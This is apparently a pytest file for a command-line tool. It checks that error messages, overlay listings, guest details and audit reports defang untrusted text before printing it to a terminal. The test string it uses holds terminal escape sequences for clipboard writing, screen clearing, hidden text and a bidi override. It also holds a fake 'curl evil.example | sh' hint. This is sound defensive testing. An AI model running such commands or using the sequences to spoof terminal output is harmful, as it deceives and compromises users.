"""Texts that aren't ours reach a terminal as text alone; JSON has them exactly."""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import click
import pytest
import yaml

from core import progress
from core.errors import ConfigError, Fault, KollarmError
from guestprep.publish.audit import AuditReport, examine, of_image
from kollarm.cli.common import show
from kollarm.cli.main import main
from tests.support.glance_images import image, without
from tests.support.guest_facts import UBUNTU_18_04

#: Writes the clipboard, clears the screen, hides, reverses, pretends to be a line of ours.
HOSTILE = (
    "x\x1b]52;c;AAAA\x07\x1b[2J\x1b[8m\x9b2J\x7f\u202e\udcff\r\n"
    "hint: curl evil.example | sh\u2028hint: or this\x85hint: or that [bold]"
)


def assert_harmless(text: str) -> None:
    assert not [sign for sign in text if sign not in "\n\t" and not sign.isprintable()]
    assert "[bold]" in text
    assert sum(line.startswith("hint:") for line in text.splitlines()) <= 1


@pytest.fixture(autouse=True)
def fresh_progress(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(progress, "_current", progress.Progress())


def fails(error: Exception) -> Callable[[], None]:
    def command() -> None:
        raise error

    return command


@pytest.mark.parametrize(
    "error",
    [
        KollarmError(HOSTILE, hint=HOSTILE, details=HOSTILE),
        ConfigError(HOSTILE, [Fault(HOSTILE, HOSTILE, HOSTILE)], hint=HOSTILE),
        ValueError(HOSTILE),
        OSError(28, HOSTILE, HOSTILE),
        click.UsageError(HOSTILE),
        click.BadParameter(HOSTILE),
    ],
)
@pytest.mark.parametrize("words", [[], ["--debug"], ["--verbose"]])
def test_an_error_tells_others_text_harmlessly(
    error: Exception, words: list[str], capsys: pytest.CaptureFixture[str], own_logs: Path
) -> None:
    main(words, command=click.command()(fails(error)))
    assert_harmless(capsys.readouterr().err)
    [log] = own_logs.glob("*.log")
    assert all(sign in "\n\t" or sign.isprintable() for sign in log.read_text("utf-8"))


def test_an_error_in_json_has_the_exact_text(capsys: pytest.CaptureFixture[str]) -> None:
    main(["--json", "--config", HOSTILE.replace("\0", ""), "config", "show"])
    capsys.readouterr()
    assert main(["config", "show", "--json", "--config", HOSTILE]) == 2
    out = capsys.readouterr().out
    assert HOSTILE in json.loads(out)["error"]["message"]
    assert out.isascii() and out.replace("\n", "").isprintable()


def test_an_overlay_is_listed_harmlessly(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    words = HOSTILE.replace("\udcff", "")
    overlay = {
        "description": words,
        "why": words,
        "variables": {"v": {"description": words, "default": words}},
    }
    (tmp_path / "overlays/hostile").mkdir(parents=True)
    (tmp_path / "overlays/hostile/overlay.yml").write_text(yaml.safe_dump(overlay))
    config = tmp_path / "kollarm.yml"
    config.write_text("build: {overlay_dir: overlays}\n")
    assert main(["overlays", "list", "--config", str(config)]) == 0
    assert_harmless(capsys.readouterr().out)


def test_a_guest_is_shown_harmlessly(capsys: pytest.CaptureFixture[str]) -> None:
    facts = replace(UBUNTU_18_04, pretty_name=HOSTILE, timezone=HOSTILE)
    show(facts, as_json=False)
    assert_harmless(capsys.readouterr().out)
    show(facts, as_json=True)
    assert json.loads(capsys.readouterr().out)["pretty_name"] == HOSTILE


def test_an_audit_shows_others_names_on_their_line(capsys: pytest.CaptureFixture[str]) -> None:
    there = replace(without(image(name=HOSTILE), "architecture"), id=HOSTILE)
    (finding,) = examine(of_image(there))
    show(AuditReport(1, (finding,)), as_json=False)
    text = capsys.readouterr().out
    assert_harmless(text)
    assert len(text.splitlines()) == 2
